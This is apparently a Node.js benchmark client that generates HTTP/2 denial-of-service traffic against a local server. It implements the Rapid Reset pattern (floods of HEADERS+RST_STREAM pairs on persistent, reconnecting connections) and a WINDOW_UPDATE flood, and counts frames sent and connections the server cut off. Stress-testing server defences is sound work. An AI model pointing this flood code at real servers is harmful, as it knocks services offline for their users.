'use strict';
// Attack traffic for the "under attack" bench scenario (bench/run.js --only attack):
//   node bench/attack-client.js PORT MODE SECONDS
// MODE rapid-reset: 20 connections, each writing 950 HEADERS+RST_STREAM pairs in one
//   write (under the server's per-connection reset burst), then waiting; a connection
//   the server closes is opened again at once (a persistent attacker).
// MODE window-update: one connection writing WINDOW_UPDATE(1) on stream 0 as fast as
//   the socket drains, reopened when closed.
// Prints "done FRAMES CUTOFFS SECONDS" at the end: frames the kernel took from us
// (socket bytesWritten over the frame size, so writes queued on a socket the server
// already closed do not count), connections the server closed. Bounded by SECONDS.
const net = require('node:net');

const [port, mode, seconds] = [Number(process.argv[2]), process.argv[3], Number(process.argv[4] || 5)];
const PREFACE = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'), frame(4, 0, 0, Buffer.alloc(0))]);
const lit = (n, v) => Buffer.concat([Buffer.from([0, n.length]), Buffer.from(n), Buffer.from([v.length]), Buffer.from(v)]);
const GET = Buffer.concat([lit(':method', 'GET'), lit(':scheme', 'http'), lit(':authority', '127.0.0.1'), lit(':path', '/')]);
const CANCEL = Buffer.from([0, 0, 0, 8]);

function frame(type, flags, id, payload) {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3); h[3] = type; h[4] = flags; h.writeUInt32BE(id, 5);
  return Buffer.concat([h, payload]);
}

const RESET_BATCH = (() => {
  const parts = [PREFACE];
  for (let i = 0; i < 950; i++) parts.push(frame(1, 5, 1 + 2 * i, GET), frame(3, 0, 1 + 2 * i, CANCEL));
  return Buffer.concat(parts);
})();
const WU_BATCH = Buffer.concat(Array.from({ length: 5000 }, () => frame(8, 0, 0, Buffer.from([0, 0, 0, 1]))));

let bytes = 0; // bytesWritten of closed sockets
const live = new Set();
let cutoffs = 0;
let over = false;
const t0 = Date.now();

function open() {
  if (over) return;
  const s = net.connect({ port, host: '127.0.0.1' });
  s.on('error', () => {});
  s.on('data', () => {});
  live.add(s);
  s.on('close', () => {
    live.delete(s);
    bytes += s.bytesWritten;
    if (!over) { cutoffs++; setImmediate(open); }
  });
  s.on('connect', () => {
    if (mode === 'rapid-reset') {
      s.write(RESET_BATCH);
    } else {
      s.write(PREFACE);
      const pump = () => {
        while (!over && !s.destroyed && s.write(WU_BATCH)) { /* until the socket buffer is full */ }
      };
      s.on('drain', pump);
      pump();
    }
  });
}

for (let i = 0; i < (mode === 'rapid-reset' ? 20 : 1); i++) open();
setTimeout(() => {
  over = true;
  for (const s of live) bytes += s.bytesWritten;
  // Frame sizes: a HEADERS+RST_STREAM pair is two frames of RESET_BATCH; WINDOW_UPDATE is 13 bytes.
  const perFrame = mode === 'rapid-reset' ? (RESET_BATCH.length - PREFACE.length) / 1900 : 13;
  process.stdout.write(`done ${Math.round(bytes / perFrame)} ${cutoffs} ${(Date.now() - t0) / 1000}\n`);
  process.exit(0);
}, seconds * 1000);
